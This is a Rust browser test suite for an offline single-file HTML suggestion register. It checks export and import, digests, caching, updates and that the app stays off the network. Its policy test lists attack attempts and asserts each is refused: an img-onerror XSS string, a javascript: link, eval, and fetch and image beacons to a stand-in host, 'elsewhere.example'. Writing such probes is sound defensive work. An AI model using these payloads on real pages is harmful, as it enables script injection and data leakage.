//! The program runs wherever it lies: on any host, as one file, without network, and asks for nothing elsewhere.

use std::{
    fs,
    path::{Path, PathBuf},
};

use sha2::{Digest, Sha256};

use crate::{
    harness::{
        Site,
        browser::{Browser, Profile},
        tab::Tab,
        target::{button, testid, text},
    },
    office::{Manners, Office},
    steps::is_whole,
};

const ONE_FILE: &str = "建议台账.html";
/// How many suggestions the sample holds.
const SAMPLE: &str = "7";

fn loads_sample(tab: &Tab) {
    tab.is_ready();
    tab.click(testid("load-sample"));
    tab.shows_state("total", SAMPLE);
    tab.shows_state("imports", "1");
}

/// Changes the title of the first suggestion in the list and waits until that is saved.
fn edits(tab: &Tab, title: &str) {
    tab.eval("location.hash = '#/list'");
    tab.click(testid("row").first());
    tab.value(testid("detail-title"));
    let saves = tab.state("saves").unwrap_or_default();
    tab.fill(testid("detail-title"), title);
    tab.click(testid("detail-save"));
    tab.waits_until(&format!("document.documentElement.dataset.saves !== '{saves}'"));
    tab.waits_until("document.querySelector('[data-testid=\"save-state\"]').textContent.includes('已保存')");
}

fn local(path: &Path) -> String {
    let path = path.to_string_lossy();
    format!("file://{}", percent_encoding::utf8_percent_encode(&path, percent_encoding::CONTROLS))
}

fn downloads_whole(tab: &Tab) -> PathBuf {
    tab.eval("location.hash = '#/exchange'");
    tab.downloads(|tab| tab.click(button("下载离线版（含本台账）")))
}

fn downloads_empty(tab: &Tab) -> PathBuf {
    tab.eval("location.hash = '#/exchange'");
    tab.downloads(|tab| tab.click(button("下载离线版（不含数据）")))
}

#[test]
fn the_one_file_opens_by_double_click_and_hands_on_what_it_holds() {
    let Some(folder) = Site::folder() else { return };
    let pristine = fs::read(folder.join(ONE_FILE)).unwrap();
    let (mine, theirs) = (Profile::fresh(), Profile::fresh());
    let browser = Browser::start(&mine);
    let tab = browser.open(&local(&folder.join(ONE_FILE)));
    loads_sample(&tab);
    edits(&tab, "关于离线改过的建议");
    tab.reload();
    tab.is_ready();
    assert_eq!(tab.value(testid("detail-title")), "关于离线改过的建议");
    tab.eval("location.hash = '#/settings/about'");
    let digest = data_encoding::HEXLOWER.encode(&Sha256::digest(&pristine));
    tab.waits_until(&format!(
        "document.querySelector('[data-testid=\"one-file-digest\"]').textContent === '{digest}'"
    ));
    assert!(fs::read_to_string(folder.join(format!("{ONE_FILE}.sha256"))).unwrap().starts_with(&digest));
    assert!(fs::read(downloads_empty(&tab)).unwrap() == pristine, "the file makes itself again to the byte");
    let whole = downloads_whole(&tab);
    tab.shows_state("exports", "1");

    // In another office's browser it opens as that register, at once.
    let other = Browser::start(&theirs);
    let there = other.open(&local(&whole));
    there.is_ready();
    there.shows_state("total", SAMPLE);
    there.shows_state("imports", "1");
    there.eval("location.hash = '#/list?q=离线改过'");
    there.shows_state("shown", "1");
    assert!(fs::read(downloads_empty(&there)).unwrap() == pristine, "nothing of the register stays in it");
    edits(&there, "对方后来改的题目");
    // Later it opens the register that has lived on there; what the file says is not news.
    there.go(&local(&whole));
    there.reload();
    there.is_ready();
    there.eval("location.hash = '#/list?q=对方后来改的题目'");
    there.shows_state("shown", "1");
    there.shows(0, testid("import-confirm"));

    // A newer file is offered, not taken.
    edits(&tab, "关于又改了一次的建议");
    let newer = downloads_whole(&tab);
    there.go(&local(&newer));
    there.is_ready();
    there.sees("还没有写入");
    assert_eq!(there.state("imports"), None, "a preview writes nothing");
    there.click(testid("import-confirm"));
    there.shows_state("conflicts", "1");
    // It is a backup as well: whoever has no use for a program imports it.
    tab.eval("location.hash = '#/exchange'");
    let theirs = downloads_whole(&there);
    tab.upload(testid("import-file"), &theirs);
    tab.click(testid("import-confirm"));
    tab.shows_state("conflicts", "1");
}

#[test]
fn a_served_page_offers_the_one_file_with_and_without_the_register() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners::default());
    let (mine, theirs) = (Profile::fresh(), Profile::fresh());
    let browser = Browser::start(&mine);
    let tab = browser.open(&office.by_name(""));
    tab.is_ready();
    let empty = tab.downloads(|tab| tab.click(button("下载离线版")));
    assert!(fs::read(empty).unwrap() == fs::read(folder.join(ONE_FILE)).unwrap());
    loads_sample(&tab);
    let whole = downloads_whole(&tab);
    let other = Browser::start(&theirs);
    let there = other.open(&local(&whole));
    there.is_ready();
    there.shows_state("total", SAMPLE);
}

#[test]
fn a_host_without_the_one_file_says_so() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners::default());
    fs::remove_file(office.folder().join(ONE_FILE)).unwrap();
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let mut tab = browser.open(&office.at(""));
    tab.forgives_errors();
    tab.is_ready();
    tab.click(button("下载离线版"));
    tab.shows_state("error", "P-106");
    tab.sees("离线版没有下载下来");
}

#[test]
fn a_host_that_calls_the_module_text_serves_it_all_the_same() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners { wasm: Some("text/plain"), ..Manners::default() });
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let tab = browser.open(&office.at("#/settings/about"));
    loads_sample(&tab);
    assert_eq!(tab.eval("location.href"), office.at("#/settings/about"), "no detour by the one file");
}

#[test]
fn a_host_that_refuses_the_module_opens_the_one_file_at_the_same_place() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners { wasm: Some(""), ..Manners::default() });
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let mut tab = browser.open(&office.at("#/exchange"));
    tab.forgives_errors();
    tab.is_ready();
    tab.waits_until("decodeURI(location.href).endsWith('/建议台账.html#/exchange')");
    loads_sample(&tab);
}

#[test]
fn the_folder_opened_by_double_click_leads_to_the_one_file() {
    let Some(folder) = Site::folder() else { return };
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let mut tab = browser.open(&local(&folder.join("index.html")));
    tab.forgives_errors();
    tab.is_ready();
    tab.waits_until("decodeURI(location.href).endsWith('/建议台账.html')");
}

#[test]
fn the_list_needs_one_module_and_a_suggestion_one_more() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners::default());
    // Rows once came after 52 requests, one after the other.
    let is_module = |path: &PathBuf| path.extension().is_some_and(|ending| ending == "wasm");
    let named = |path: &Path, name: &str| path.file_name().unwrap().to_string_lossy().starts_with(name);
    let files = || fs::read_dir(office.folder()).unwrap().flatten().map(|entry| entry.path());
    let modules: Vec<PathBuf> = files().filter(is_module).collect();
    assert!(modules.len() <= 8, "{modules:?}");
    let aside = tempfile::tempdir().unwrap();
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    // The host lets nothing be kept, and under a name of the intranet no page keeps anything itself.
    let mut tab = browser.open(&office.by_name("#/list"));
    tab.forgives_errors();
    loads_sample(&tab);
    for module in modules.iter().filter(|module| !named(module, "app-")) {
        fs::rename(module, aside.path().join(module.file_name().unwrap())).unwrap();
    }
    tab.go(&office.by_name("#/list"));
    tab.reload();
    tab.is_ready();
    tab.shows(SAMPLE.parse().unwrap(), testid("row"));
    // The bar above them has not come: that is said, and it comes as soon as it can.
    tab.sees("这一页没有取到");
    let bring = |name: &str| {
        for module in modules.iter().filter(|module| named(module, name)) {
            fs::copy(aside.path().join(module.file_name().unwrap()), module).unwrap();
        }
    };
    bring("around-");
    tab.click(button("再取一次"));
    // What takes files in has not come: that is said, and nothing is begun.
    tab.upload(testid("import-file"), &Path::new(env!("CARGO_MANIFEST_DIR")).join("public/sample.json"));
    tab.shows_state("error", "P-107");
    tab.sees("读文件的程序部分没有取到");
    bring("suggestion-");
    edits(&tab, "关于一次取来的建议");
}

#[test]
fn a_page_from_a_cache_finds_the_new_build() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners { caches_pages: true, ..Manners::default() });
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let first = browser.open(&office.by_name(""));
    loads_sample(&first);
    drop(first);
    office.upgrade();
    let mut tab = browser.open("about:blank");
    tab.forgives_errors();
    let asked = office.asked().len();
    tab.go(&office.by_name("#/list"));
    tab.waits_until("document.documentElement.dataset.build === 'next 2026-12-31'");
    tab.is_ready();
    tab.shows_state("total", SAMPLE);
    // It did come from the cache, and asked for what is gone.
    let asked = office.asked().split_off(asked);
    let is_gone =
        |url: &String| url.contains("/app-") && url.ends_with(".wasm") && !url.contains("0123456789");
    assert!(asked.iter().any(is_gone), "{asked:?}");
}

#[test]
fn nothing_is_asked_of_the_network_after_the_load_on_any_screen() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners::default());
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let tab = browser.open(&office.by_name(""));
    loads_sample(&tab);
    is_whole(&tab);
    let loaded = tab.requests().len();
    let screens = [
        "",
        "list",
        "exchange",
        "stats",
        "settings",
        "settings/register",
        "settings/offices",
        "settings/deputies",
        "rescue",
    ];
    for screen in screens {
        tab.eval(&format!("location.hash = '#/{screen}'"));
        tab.eval("new Promise((done) => setTimeout(() => done(1), 300))");
    }
    edits(&tab, "关于不联网的建议");
    assert_eq!(tab.requests()[loaded..], Vec::<String>::new());
    // About works out the digest of the file that this host offers: the only late part.
    tab.eval("location.hash = '#/settings/about'");
    tab.waits_until("document.querySelector('[data-testid=\"one-file-digest\"]').textContent.length === 64");
    let own = office.by_name("");
    assert!(tab.requests().iter().all(|asked| asked.starts_with(&own)), "{:?}", tab.requests());
    assert_eq!(tab.requests().len(), loaded + 1);
}

#[test]
fn the_policy_stops_what_does_not_belong_to_the_program() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners::default());
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    for (address, is_served) in [(office.at(""), true), (local(&folder.join(ONE_FILE)), false)] {
        let mut tab = browser.open(&address);
        tab.forgives_errors();
        tab.is_ready();
        let tries = [
            "eval('1')",
            "new Function('return 1')()",
            "document.createElement('p').innerHTML = '<img src=x onerror=\"window.harmed = 1\">'",
            "document.createElement('script').src = 'app.js'",
            "document.createElement('script').textContent = 'window.harmed = 1'",
            "const link = document.createElement('a'); link.href = 'javascript:window.harmed = 1'; \
             document.body.append(link); link.click(); await pause(); if (!window.harmed) throw 0",
            "await fetch('https://elsewhere.example/?data')",
            "await new Promise((load, error) => Object.assign(new Image(), \
             { onload: load, onerror: error, src: 'https://elsewhere.example/x.png' }))",
        ];
        for attempt in tries {
            // Put off, so that the page itself does it: what tests evaluate is not under the policy.
            let outcome = tab.eval(&format!(
                "(() => {{
                    const pause = () => new Promise((done) => setTimeout(done, 50));
                    return pause().then(async () => {{ {attempt}; return 'done' }}).catch(() => 'refused');
                }})()"
            ));
            assert_eq!(outcome, "refused", "{attempt} at {address}");
        }
        assert_eq!(tab.eval("window.harmed === undefined"), true);
        let own = tab.eval("fetch('manifest.webmanifest').then(() => true, () => false)");
        assert_eq!(own, is_served, "only a served page loads its own parts");
    }
}

#[test]
fn a_page_inside_another_page_does_not_start() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners::default());
    fs::write(
        office.folder().join("frame.html"),
        "<!DOCTYPE html><link rel=icon href=\"data:,\"><iframe src=\"index.html\" width=900 height=600></iframe>",
    )
    .unwrap();
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let tab = browser.open(&office.at("frame.html"));
    tab.waits_until("frames[0].document.documentElement.dataset.error === 'P-904'");
    tab.waits_until("frames[0].document.body.innerText.includes('请在单独的窗口中打开台账')");
    assert_eq!(tab.eval("frames[0].document.documentElement.dataset.state"), "loading");
}

#[test]
fn after_the_first_visit_it_opens_without_its_host() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners::default());
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let tab = browser.open(&office.at("#/"));
    tab.is_ready();
    tab.waits_until("navigator.serviceWorker.controller !== null");
    assert_eq!(
        tab.call("Page.getInstallabilityErrors", serde_json::json!({}))["installabilityErrors"],
        serde_json::json!([])
    );
    office.close();
    tab.reload();
    loads_sample(&tab);
    assert_eq!(fs::read(downloads_empty(&tab)).unwrap(), fs::read(folder.join(ONE_FILE)).unwrap());
    tab.reload();
    tab.is_ready();
    tab.shows_state("total", SAMPLE);
}

#[test]
fn a_new_build_is_announced_and_waits_for_the_person() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners::default());
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let tab = browser.open(&office.at(""));
    loads_sample(&tab);
    let other = browser.open(&office.at("#/list"));
    other.is_ready();
    other.waits_until("navigator.serviceWorker.controller !== null");
    office.upgrade();
    other.reload();
    other.is_ready();
    other.sees("程序有新版本");
    tab.sees("程序有新版本");
    assert_ne!(other.eval("document.documentElement.dataset.build"), "next 2026-12-31");
    // Nobody who works is disturbed.
    edits(&tab, "关于更新前写下的建议");
    other.click(button("更新"));
    other.waits_until("document.documentElement.dataset.build === 'next 2026-12-31'");
    other.is_ready();
    other.sees_no("程序有新版本");
    assert_ne!(tab.eval("document.documentElement.dataset.build"), "next 2026-12-31");
    edits(&tab, "关于更新后接着写的建议");
    drop(tab);
    other.reload();
    other.is_ready();
    // With the last old page the old build goes.
    other.waits_until("caches.keys().then((names) => names.length === 1 && names[0].includes('next'))");
    office.close();
    other.reload();
    other.is_ready();
    other.eval("location.hash = '#/list?q=接着写'");
    other.shows_state("shown", "1");
}

#[test]
fn plain_http_needs_nothing_that_only_https_has() {
    let Some(folder) = Site::folder() else { return };
    let office = Office::open(&folder, Manners::default());
    let profile = Profile::fresh();
    let browser = Browser::start(&profile);
    let tab = browser.open(&office.by_name(""));
    loads_sample(&tab);
    assert_eq!(
        tab.eval(
            "isSecureContext || 'serviceWorker' in navigator || !!navigator.clipboard || !!crypto.subtle"
        ),
        false
    );
    let two = browser.open(&office.by_name("#/list?q=明网"));
    two.is_ready();
    two.shows_state("shown", "0");
    edits(&tab, "关于明网的建议");
    two.shows_state("shown", "1");
    tab.eval("location.hash = '#/exchange'");
    let file = tab.downloads(|tab| tab.click(testid("export-json")));
    tab.upload(testid("import-file"), &file);
    tab.sees("不需要导入");
    tab.click(testid("import-cancel"));
    let link = tab.text(text("构建").first());
    assert!(link.contains("版本"), "{link}");
}
